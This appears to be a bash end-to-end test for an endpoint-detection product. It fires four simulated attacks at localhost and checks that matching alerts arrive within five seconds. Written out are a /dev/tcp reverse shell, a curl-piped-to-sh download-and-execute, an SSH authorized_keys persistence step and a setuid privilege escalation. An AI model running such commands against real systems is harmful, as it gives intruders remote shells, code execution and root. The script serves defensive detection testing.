#!/usr/bin/env bash
# End-to-end test: the local trial (scripts/trial.sh) with the real agent and eBPF driver on this
# host, then four benign, local attacks, each of which must reach the manager's API as the
# expected alert, with its process chain, within 5 s:
#   reverse shell       bash -i >& /dev/tcp/127.0.0.1/PORT to a local listener
#   download + execute  curl from a local HTTP server piped into sh
#   SSH persistence     a key appended to a throw-away home's .ssh/authorized_keys
#   privilege escalation  a set-uid helper, run as nobody, going from its uid back to uid 0
# It also checks that the host shows online within 60 s of the trial's start, and reports the
# latency from each attack's syscall to the alert stored by the manager.
#
#   tests/e2e/e2e.sh BUILD_DIR [OUT_DIR]
# Exit 0 pass, 1 fail, 77 skipped (not root, no BTF, or a binary missing). Needs the binaries of
# BUILD_DIR (ctest passes its own build tree); uses its own data folder and free ports, so a
# trial started with `make trial` is not disturbed.
set -euo pipefail

top=$(cd "$(dirname "$0")/../.." && pwd)
BUILD=$(cd "${1:?usage: e2e.sh BUILD_DIR [OUT_DIR]}" && pwd)
OUT=${2:-$BUILD/test-logs/e2e}
DEADLINE_MS=5000
ONLINE_S=60

skip() {
  echo "e2e: SKIPPED: $*"
  exit 77
}
fail() {
  echo "e2e: FAIL: $*" >&2
  FAILED=$((FAILED + 1))
}
pass() { PASSED=$((PASSED + 1)); }
now_ms() { echo $((${EPOCHREALTIME/./} / 1000)); }

[ "$(id -u)" = 0 ] || skip "needs root (the eBPF driver loads as root)"
[ -r /sys/kernel/btf/vmlinux ] || skip "no BTF at /sys/kernel/btf/vmlinux"
for b in endpoint/agent/rampart-agent driver/plugin/rampart-driver manager/rampart-manager \
  hub/rampart-hub agent-center/rampart-agent-center service-discovery/rampart-sd; do
  [ -x "$BUILD/$b" ] || skip "$BUILD/$b is not built"
done
for c in jq curl node setpriv cc redis-server; do
  command -v "$c" >/dev/null || skip "$c is not installed (scripts/install-deps.sh)"
done

rm -rf "$OUT"
mkdir -p "$OUT"
WORK=$(mktemp -d /tmp/rampart-e2e.XXXXXX)
chmod 755 "$WORK"
FAILED=0 PASSED=0

# Free ports for this run (the trial's fixed defaults may be in use by a real trial).
declare -A taken=()
free_port() {
  local p
  while :; do
    p=$((12000 + RANDOM % 20000)) # below the ephemeral range (32768-)
    [ -z "${taken[$p]:-}" ] || continue
    (exec 3<>"/dev/tcp/127.0.0.1/$p") 2>/dev/null && continue
    taken[$p]=1
    echo "$p"
    return
  done
}
for v in REDIS KAFKA MONGO SD AC_GRPC AC_HTTP HUB MANAGER AGENT; do
  export "RAMPART_TRIAL_PORT_$v=$(free_port)"
done
export RAMPART_TRIAL_DIR=$OUT/trial RAMPART_TRIAL_BUILD=$BUILD RAMPART_TRIAL_NO_BUILD=1
export RAMPART_TRIAL_WAIT=$ONLINE_S
# Sanitizer builds reserve terabytes of address space: no RLIMIT_AS for their plugins.
[ "${RAMPART_SANITIZE:-OFF}" = ON ] && export RAMPART_TRIAL_PLUGIN_MEMORY=0
SHELL_PORT=$(free_port)
HTTP_PORT=$(free_port)
MGR=http://127.0.0.1:$RAMPART_TRIAL_PORT_MANAGER

SERVERS_PID=""
cleanup() {
  set +e
  if [ "${RAMPART_E2E_KEEP:-0}" = 1 ]; then
    echo "e2e: RAMPART_E2E_KEEP=1: the trial stays up (RAMPART_TRIAL_DIR=$RAMPART_TRIAL_DIR scripts/trial.sh stop)"
    return
  fi
  [ -n "$SERVERS_PID" ] && kill "$SERVERS_PID" 2>/dev/null
  "$top/scripts/trial.sh" stop >"$OUT/trial-stop.log" 2>&1
  rm -rf "$WORK"
}
trap cleanup EXIT

# ------------------------------------------------------------------ the platform
t_start=$(now_ms)
if ! "$top/scripts/trial.sh" start >"$OUT/trial-start.log" 2>&1; then
  cat "$OUT/trial-start.log" >&2
  echo "e2e: FAIL: the trial did not come up (logs: $RAMPART_TRIAL_DIR/logs)" >&2
  exit 1
fi
t_online=$(now_ms)
online_ms=$((t_online - t_start))
echo "e2e: platform up and host online in ${online_ms} ms"
if [ "$online_ms" -le $((ONLINE_S * 1000)) ]; then pass; else fail "host online after ${online_ms} ms (limit ${ONLINE_S} s)"; fi
AGENT_ID=$(cat "$RAMPART_TRIAL_DIR/data/agent/agent_id")

PASSWORD=$(cat "$RAMPART_TRIAL_DIR/secrets/admin.password")
TOKEN=$(curl -fsS -X POST "$MGR/api/v1/auth/login" -H 'Content-Type: application/json' \
  --data-binary "{\"username\":\"admin\",\"password\":\"$PASSWORD\"}" | jq -r .access_token)
[ -n "$TOKEN" ] && [ "$TOKEN" != null ] || {
  echo "e2e: FAIL: cannot log in to the manager" >&2
  exit 1
}
api() { curl -fsS --max-time 5 -H "Authorization: Bearer $TOKEN" "$MGR$1"; }

# The host as the console shows it.
api "/api/v1/hosts?agent_id=$AGENT_ID" >"$OUT/host.json"
if jq -e ".items[0].online == true" "$OUT/host.json" >/dev/null; then pass; else fail "host not online in GET /api/v1/hosts"; fi

# Warm-up: a new agent's first asset snapshots (a few thousand records) go through the manager's
# one Kafka consumer ahead of any alert, and jongodb writes them slowly. The latency measured here
# is the steady state's: the attacks start once the manager's intake has been quiet for 2 s.
t_settle=$(now_ms)
prev=-1 same=0
for _ in $(seq 90); do
  cur=$(curl -fsS --max-time 2 "$MGR/metrics" | awk '$1 == "rampart_manager_kafka_messages_total" {print $2}')
  if [ "$cur" = "$prev" ]; then
    same=$((same + 1))
    [ "$same" -ge 2 ] && break
  else
    same=0
  fi
  prev=$cur
  sleep 1
done
echo "e2e: first snapshots ingested, manager quiet after $(($(now_ms) - t_settle)) ms ($cur messages)"
# The first alert after a cold start takes 3-5 s (reported in docs/benchmarks.md); a canary
# (chmod u+s on a scratch file: rule setuid_bit_set) warms the whole path before the measured
# attacks, and must itself arrive within 30 s.
touch "$WORK/canary"
t_canary=$(now_ms)
chmod u+s "$WORK/canary"
canary=""
for _ in $(seq 150); do
  canary=$(api "/api/v1/alerts?rule_id=setuid_bit_set&agent_id=$AGENT_ID&since=$((t_canary - 1000))" |
    jq -r '.items[0].created_at // empty')
  [ -n "$canary" ] && break
  sleep 0.2
done
if [ -n "$canary" ]; then
  echo "e2e: first (canary) alert stored $((canary - t_canary)) ms after its syscall"
  echo "canary_ms=$((canary - t_canary))" >"$OUT/canary.txt"
else
  fail "canary: no setuid_bit_set alert within 30 s"
fi

# ------------------------------------------------------------------ attack machinery
node "$top/tests/e2e/servers.js" "$SHELL_PORT" "$HTTP_PORT" >"$OUT/servers.log" 2>&1 &
SERVERS_PID=$!
for _ in $(seq 50); do
  grep -q READY "$OUT/servers.log" && break
  sleep 0.1
done
grep -q READY "$OUT/servers.log" || {
  echo "e2e: FAIL: local attack servers did not start" >&2
  exit 1
}

# Polls the manager for an alert of RULE on this host detected since T0 whose event has MARKER
# in one of FIELDS (a jq array of event fields), up to T0 + 5 s. Prints the alert id.
wait_alert() {
  local rule=$1 t0=$2 marker=$3 fields=$4 ids id
  while [ $(($(now_ms) - t0)) -le $DEADLINE_MS ]; do
    ids=$(api "/api/v1/alerts?rule_id=$rule&agent_id=$AGENT_ID&since=$((t0 - 1000))&limit=50" |
      jq -r '.items[].id')
    for id in $ids; do
      if api "/api/v1/alerts/$id" | jq -e --arg m "$marker" \
        "$fields | map(. // \"\") | any(contains(\$m))" \
        >/dev/null; then
        echo "$id"
        return 0
      fi
    done
    sleep 0.1
  done
  return 1
}

# check NAME RULE T0 MARKER FIELDS EXE_SUFFIX: the alert came within 5 s, with a process chain
# that starts at the attacking process (exe ending in EXE_SUFFIX) and goes up through the
# attacker's session (attacker.sh).
declare -a LAT_STORED=() LAT_API=()
check() {
  local name=$1 rule=$2 t0=$3 marker=$4 fields=$5 exe=$6 id seen detail stored
  if ! id=$(wait_alert "$rule" "$t0" "$marker" "$fields"); then
    fail "$name: no $rule alert within ${DEADLINE_MS} ms"
    return
  fi
  seen=$(now_ms)
  detail=$(api "/api/v1/alerts/$id")
  echo "$detail" >"$OUT/alert-$name.json"
  stored=$(jq -r '.created_at' <<<"$detail")
  LAT_STORED+=($((stored - t0)))
  LAT_API+=($((seen - t0)))
  printf 'e2e: %-21s %-29s stored %4d ms after the attack, seen in the API after %4d ms; chain: %s\n' \
    "$name" "$rule" $((stored - t0)) $((seen - t0)) \
    "$(jq -r '[.process_chain[] | "\(.pid) \(.comm)"] | join(" < ")' <<<"$detail")"
  if jq -e --arg exe "$exe" \
    '(.process_chain[0].exe | endswith($exe))
     and (.process_chain[1:] | map(.argv // "") | any(contains("attacker.sh")))' \
    <<<"$detail" >/dev/null; then
    pass
  else
    fail "$name: the process chain does not lead from $exe to attacker.sh: $(jq -c .process_chain <<<"$detail")"
  fi
}
# attacker.sh is copied into the work folder so that nobody (step 4) can run it too.
install -m 0755 "$top/tests/e2e/attacker.sh" "$WORK/attacker.sh"
attack() { bash "$WORK/attacker.sh"; }
ARGV_EXE='[.event.argv, .event.exe]'

# ------------------------------------------------------------------ 1. reverse shell
t0=$(now_ms)
RAMPART_E2E_CMD="bash -i >& /dev/tcp/127.0.0.1/$SHELL_PORT 0>&1" timeout 10 \
  bash "$WORK/attacker.sh" >/dev/null 2>&1 || true
check reverse_shell reverse_shell_dev_tcp "$t0" "/dev/tcp/127.0.0.1/$SHELL_PORT" "$ARGV_EXE" /bash

# ------------------------------------------------------------------ 2. download and execute
t0=$(now_ms)
out=$(RAMPART_E2E_CMD="curl -fsS http://127.0.0.1:$HTTP_PORT/payload.sh | sh" attack)
[ "$out" = rampart-e2e-payload ] || fail "download_execute: the payload did not run ($out)"
check download_execute download_pipe_to_shell "$t0" "127.0.0.1:$HTTP_PORT/payload.sh" "$ARGV_EXE" /bash

# ------------------------------------------------------------------ 3. SSH authorized_keys
home=$WORK/home-e2e
mkdir -p "$home/.ssh"
chmod 700 "$home/.ssh"
key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE2e2e2e2e2e2e2e2e2e2e2e2e2e2e2e2e2e2e2e2e2e rampart-e2e'
t0=$(now_ms)
RAMPART_E2E_CMD="echo '$key' >> $home/.ssh/authorized_keys" attack
check ssh_persistence ssh_authorized_keys_modified "$t0" "$home/.ssh/authorized_keys" \
  '[.event.argv, .event.file_path, .event.new_name]' /bash
rm -rf "$home" # restore: the throw-away home goes

# ------------------------------------------------------------------ 4. privilege escalation
helper=$WORK/rampart-e2e-suid
cc -O2 -o "$helper" "$top/tests/e2e/suid_helper.c"
chown root:root "$helper"
chmod 4755 "$helper"
t0=$(now_ms)
out=$(runuser -u nobody -- bash "$WORK/attacker.sh" "$helper" 2>&1) || true
if [ "$out" != "uid=0 euid=0" ]; then
  fail "privilege_escalation: the set-uid helper did not become root ($out; is $WORK on a nosuid mount?)"
else
  check privilege_escalation privilege_escalation_to_root "$t0" "$helper" '[.event.exe]' /rampart-e2e-suid
fi

# ------------------------------------------------------------------ report
median() {
  printf '%s\n' "$@" | sort -n | awk '{a[NR]=$1} END {if (NR == 0) print "-"; else if (NR % 2) print a[(NR+1)/2]; else print int((a[NR/2]+a[NR/2+1])/2)}'
}
{
  echo "host_online_ms=$online_ms"
  echo "alerts=${#LAT_STORED[@]}"
  echo "latency_stored_ms=${LAT_STORED[*]:-}"
  echo "latency_api_ms=${LAT_API[*]:-}"
  echo "median_stored_ms=$(median "${LAT_STORED[@]}")"
  echo "median_api_ms=$(median "${LAT_API[@]}")"
} | tee "$OUT/results.txt"

echo "e2e: $PASSED passed, $FAILED failed"
[ "$FAILED" = 0 ] || {
  echo "e2e: logs in $OUT" >&2
  exit 1
}
